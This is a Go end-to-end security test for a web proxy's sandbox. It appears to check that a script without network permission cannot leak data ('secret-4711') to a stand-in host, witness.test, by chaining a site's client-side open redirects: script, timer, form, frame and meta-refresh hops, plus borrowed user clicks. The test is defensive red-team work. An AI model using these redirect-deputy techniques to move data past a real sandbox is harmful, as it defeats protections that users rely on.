package e2e

import (
	"context"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
	"github.com/remixproxy/remixproxy/sandbox"
	"github.com/remixproxy/remixproxy/store"
)

// Red-team pass 6d, OPEN-ITEMS 27: a benign site's client-side open redirects as deputies. The
// site forwards by script (location.href, location.replace, a timer, window.open into the same
// tab, a form's submit, top.location from a frame) or by <meta http-equiv=refresh>; a remixlet
// with no network permission writes a same-origin link to such a page with its data in the
// target address and has it followed — by dom.click in the top-level document, or by the
// person's click on one of the page's own links into a frame whose href the remixlet rewrote.
// The server-side redirect guard never sees these hops (the redirect page answers 200). Nothing
// may reach the witness; the site's own redirect, followed by the person's click, must still
// work.

// clientRedirects are the site's forwarding pages, by name: each reads ?to= and goes there.
var clientRedirects = map[string]string{
	"script":  `<script>location.href = new URLSearchParams(location.search).get('to');</script>`,
	"replace": `<script>location.replace(new URLSearchParams(location.search).get('to'));</script>`,
	"timer":   `<script>setTimeout(() => { location.assign(new URLSearchParams(location.search).get('to')); }, 1500);</script>`,
	"open":    `<script>window.open(new URLSearchParams(location.search).get('to'), '_self');</script>`,
	"top":     `<script>top.location.href = new URLSearchParams(location.search).get('to');</script>`,
	"form": `<form method="post"></form><script>const f = document.forms[0];
f.action = new URLSearchParams(location.search).get('to'); f.submit();</script>`,
	"norefer": `<meta name="referrer" content="no-referrer"><script>location.href = new URLSearchParams(location.search).get('to');</script>`,
}

func clientRedirectSite() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p := r.URL.Path
		switch {
		case strings.HasPrefix(p, "/go/meta"):
			htmlPage(w, `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=`+html.EscapeString(r.URL.Query().Get("to"))+`"><title>Leaving</title></head><body>Leaving…</body></html>`)
		case strings.HasPrefix(p, "/go/"):
			js, ok := clientRedirects[strings.TrimPrefix(p, "/go/")]
			if !ok {
				http.NotFound(w, r)
				return
			}
			htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Leaving</title></head><body><p>Leaving…</p>`+js+`</body></html>`)
		case strings.HasPrefix(p, "/top/"), strings.HasPrefix(p, "/frame/"), strings.HasPrefix(p, "/click/"):
			htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Deputies</title></head><body>
<h1>Articles</h1><div id="box"></div><p id="done"></p>
<a id="own" href="/go/script?to=https://elsewhere.test/own-click">the site's own outbound link</a>
<a id="plink" target="pv" href="/article">preview the article</a>
<iframe name="pv" src="/article" width="400" height="200"></iframe>
</body></html>`)
		case p == "/r":
			http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
		case p == "/links":
			htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Links</title></head><body>
<p>Further reading: <a id="ext" href="https://elsewhere.test/ext-click">an article elsewhere</a></p></body></html>`)
		case p == "/article":
			htmlPage(w, `<!doctype html><html><head><meta charset="utf-8"><title>Article</title></head><body><p>An article.</p></body></html>`)
		default:
			w.WriteHeader(http.StatusNoContent)
		}
	})
}

// clientRedirectTopScript writes a link to the site's forwarding page and clicks it.
const clientRedirectTopScript = `const a = await dom.create({ tag: 'a', attrs: { id: 'rx', href: %q }, text: 'next' });
await dom.insert(await dom.query('#box'), a);
await dom.setText(await dom.query('#done'), 'clicking');
await dom.click(a);
`

// clientRedirectOnClickScript writes the link and clicks it when the person clicks anywhere on
// the page: the navigation then has the person's activation (Sec-Fetch-User ?1).
const clientRedirectOnClickScript = `const a = await dom.create({ tag: 'a', attrs: { id: 'rx', href: %q }, text: 'next' });
await dom.insert(await dom.query('#box'), a);
await dom.on(await dom.query('body'), 'click', async () => { await dom.click(a); });
await dom.setText(await dom.query('#done'), 'armed');
`

// clientRedirectFrameScript rewrites the page's own link into its frame; the person clicks it.
const clientRedirectFrameScript = `await dom.setAttr(await dom.query('#plink'), 'href', %q);
await dom.setText(await dom.query('#done'), 'written');
`

func TestRedteamClientRedirectsCarryNoRemixletAddressOff(t *testing.T) {
	wit := &witness{}
	elsewhere := &witness{}
	var fetchMeta []string // what the witness's requests said of themselves
	var fetchMetaMu sync.Mutex
	sites, p, tab := e2etest.StartProxied(t, map[string]http.Handler{
		"dep.test": clientRedirectSite(),
		"witness.test": http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			fetchMetaMu.Lock()
			fetchMeta = append(fetchMeta, fmt.Sprintf("%s %s: Sec-Fetch-Site %q, -Dest %q, -User %q", r.Method, r.URL.Path,
				r.Header.Get("Sec-Fetch-Site"), r.Header.Get("Sec-Fetch-Dest"), r.Header.Get("Sec-Fetch-User")))
			fetchMetaMu.Unlock()
			wit.ServeHTTP(w, r)
		}),
		"elsewhere.test": elsewhere,
	}, e2etest.WithStore())

	// The site's own outbound link, followed by the person's click, still forwards (first,
	// before any remixlet address was opened).
	tab.Navigate("https://dep.test/top/control")
	tab.WaitConnected()
	personClick(t, tab, "#own")
	for deadline := time.Now().Add(20 * time.Second); sites.Requests("elsewhere.test", "/own-click") == 0; time.Sleep(100 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the site's own forwarding page, clicked by the person, did not reach elsewhere.test (at %s)", tab.URL())
		}
	}

	type variant struct{ name, page, to string }
	var variants []variant
	for _, name := range []string{"script", "replace", "timer", "open", "form", "meta", "norefer"} {
		variants = append(variants, variant{"top-" + name, "/top/" + name, "/go/" + name + "?to=https://witness.test/top-" + name + "/secret-4711"})
	}
	for _, name := range []string{"script", "top", "meta", "timer"} {
		variants = append(variants, variant{"frame-" + name, "/frame/" + name, "/go/" + name + "?to=https://witness.test/frame-" + name + "/secret-4711"})
	}
	variants = append(variants,
		// A forwarding page that forwards to another one on the site, which forwards off it.
		variant{"top-chain", "/top/chain", "/go/script?to=" + url.QueryEscape("/go/meta?to=https://witness.test/top-chain/secret-4711")},
		// The site's server redirect to its own forwarding page.
		variant{"top-server", "/top/server", "/r?to=" + url.QueryEscape("/go/script?to=https://witness.test/top-server/secret-4711")},
		// dom.click on the person's click: the navigation borrows the person's activation.
		variant{"click-script", "/click/script", "/go/script?to=https://witness.test/click-script/secret-4711"},
		variant{"click-timer", "/click/timer", "/go/timer?to=https://witness.test/click-timer/secret-4711"},
	)
	ids := map[string]string{}
	for _, v := range variants {
		script := fmt.Sprintf(clientRedirectTopScript, v.to)
		switch {
		case strings.HasPrefix(v.name, "frame-"):
			script = fmt.Sprintf(clientRedirectFrameScript, v.to)
		case strings.HasPrefix(v.name, "click-"):
			script = fmt.Sprintf(clientRedirectOnClickScript, v.to)
		}
		rx := saveUnchecked(t, p.Store, "deputy "+v.name, store.Files{
			sandbox.ManifestFile: guardManifest("deputy "+v.name, "https://dep.test"+v.page),
			sandbox.ScriptFile:   []byte(script),
		})
		ids[v.name] = rx.ID
	}
	for _, v := range variants {
		tab.Navigate("https://dep.test" + v.page)
		if clicked := strings.HasPrefix(v.name, "frame-") || strings.HasPrefix(v.name, "click-"); clicked {
			tab.WaitConnected()
			if err := waitTrue(tab, 30*time.Second, `document.getElementById('done').textContent !== ''`); err != nil {
				t.Errorf("%s: the remixlet did not run: %v\nlog:\n%s", v.name, err, remixletLog(t, p.Store, ids[v.name]))
				continue
			}
			if strings.HasPrefix(v.name, "frame-") {
				personClick(t, tab, "#plink")
			} else {
				personClick(t, tab, "h1")
			}
		}
		// The remixlet's dom.click leaves the page at once; the forwarding page forwards (the
		// timer after 1.5 s) or the proxy refuses, and the remixlet's log says so.
		want := "/" + v.name + "/secret-4711"
		for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline) && sites.Requests("witness.test", want) == 0 &&
			!strings.Contains(remixletLog(t, p.Store, ids[v.name]), "witness.test/"+v.name); time.Sleep(200 * time.Millisecond) {
		}
		time.Sleep(2 * time.Second) // a late forward (the timer) after a refusal of another hop
		if n := sites.Requests("witness.test", want); n != 0 {
			fetchMetaMu.Lock()
			t.Errorf("BUG: %s: the site's forwarding page carried the remixlet's address to the witness (%d requests):\n  %s\n  %s",
				v.name, n, strings.Join(wit.requests(), "\n  "), strings.Join(fetchMeta, "\n  "))
			fetchMetaMu.Unlock()
		} else if !strings.Contains(remixletLog(t, p.Store, ids[v.name]), "witness.test/"+v.name) {
			t.Errorf("%s: nothing reached the witness, but the remixlet's log does not say a navigation was refused:\n%s", v.name, remixletLog(t, p.Store, ids[v.name]))
		}
	}

	// The person's own click on a link to another site, in a page a remixlet's address opened,
	// goes where it goes — at once: a top-level document borrows no activation from the click
	// that opened it (TestActivationOfAnOpenedDocument), so its ?1 is the person's own. The
	// document's address names the link's site (?ref=elsewhere.test), so an unactivated
	// navigation there would be refused (offSiteCarries); before the tenth session the person's
	// click within 6.5 s of the answer was too.
	rx := saveUnchecked(t, p.Store, "deputy links", store.Files{
		sandbox.ManifestFile: guardManifest("deputy links", "https://dep.test/top/links"),
		sandbox.ScriptFile:   []byte(fmt.Sprintf(clientRedirectTopScript, "/links?ref=elsewhere.test")),
	})
	tab.Navigate("https://dep.test/top/links")
	if err := waitTrue(tab, 30*time.Second, `location.pathname === '/links' && document.getElementById('ext') !== null`); err != nil {
		t.Fatalf("the remixlet's dom.click did not open /links: %v\nlog:\n%s", err, remixletLog(t, p.Store, rx.ID))
	}
	personClick(t, tab, "#ext")
	for deadline := time.Now().Add(20 * time.Second); sites.Requests("elsewhere.test", "/ext-click") == 0; time.Sleep(100 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the person's click on a link to another site, in a page a remixlet's address opened, did not reach it (at %s)\nlog:\n%s", tab.URL(), remixletLog(t, p.Store, rx.ID))
		}
	}

	// Positive control: the witness does record what reaches it through this proxy. The
	// person's own navigation, not the page's fetch: within 5 s of the last variant's page the
	// origin may not reach the site its remixlet named (remixlet/namedhosts.go).
	tab.NavigateErr("https://witness.test/control") // answered 204: the navigation commits nothing
	for deadline := time.Now().Add(5 * time.Second); sites.Requests("witness.test", "/control") == 0; time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the control request never reached the witness: the zero counts prove nothing")
		}
	}
}

// personClick clicks the element as the person would (a real input event through DevTools).
func personClick(t *testing.T, tab *e2etest.Tab, sel string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(tab.Context(), 20*time.Second)
	defer cancel()
	if _, err := chromedp.Run(ctx, chromedp.Click(sel, chromedp.NodeVisible)); err != nil {
		t.Fatalf("clicking %s: %v", sel, err)
	}
}
